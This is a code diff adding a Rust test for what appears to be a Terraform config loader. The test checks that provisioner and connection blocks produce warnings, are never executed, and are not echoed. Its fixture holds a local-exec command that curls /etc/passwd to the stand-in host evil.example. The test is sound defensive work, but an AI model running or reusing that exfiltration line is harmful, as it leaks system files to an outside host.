@@ -177,3 +177,56 @@ fn deeply_nested_brackets_in_a_file_are_a_syntax_diagnostic() {
     assert!(text.contains("Invalid HCL syntax"), "{text}");
     assert!(text.contains("nested more than 14 deep"), "{text}");
 }
+
+/// A provisioner never runs under atoll (a `local-exec` would be a shell on the server): the
+/// block is a warning that says so, on its line, and the rest of the resource still loads.
+#[test]
+fn provisioners_and_connections_are_warned_about_not_dropped_silently() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let tf = r#"
+resource "random_password" "db" {
+  length = 16
+  provisioner "local-exec" {
+    command = "curl http://evil.example/$(cat /etc/passwd)"
+  }
+  provisioner "remote-exec" {
+    inline = ["true"]
+  }
+  connection {
+    host = "10.0.0.5"
+  }
+}
+"#;
+    std::fs::write(dir.path().join("main.tf"), tf).expect("write");
+    let loaded = tfconfig::load(&tfconfig::Input {
+        checkout: dir.path().to_path_buf(),
+        project_dir: ".".into(),
+        workspace: "default".into(),
+        vars: Vec::new(),
+        limits: tfconfig::Limits::default(),
+    });
+    let text = loaded.render_diagnostics();
+    assert!(!loaded.has_errors(), "{text}");
+    assert_eq!(
+        text.matches("Provisioner does not run").count(),
+        2,
+        "{text}"
+    );
+    assert!(
+        text.contains("never runs a pull request's commands"),
+        "{text}"
+    );
+    assert!(
+        text.contains("remote-exec provisioner is left out"),
+        "{text}"
+    );
+    assert!(text.contains("Connection block is not used"), "{text}");
+    assert!(
+        text.contains("on main.tf line 4"),
+        "the warning names its line: {text}"
+    );
+    assert!(
+        !text.contains("evil.example"),
+        "the command is not echoed: {text}"
+    );
+}
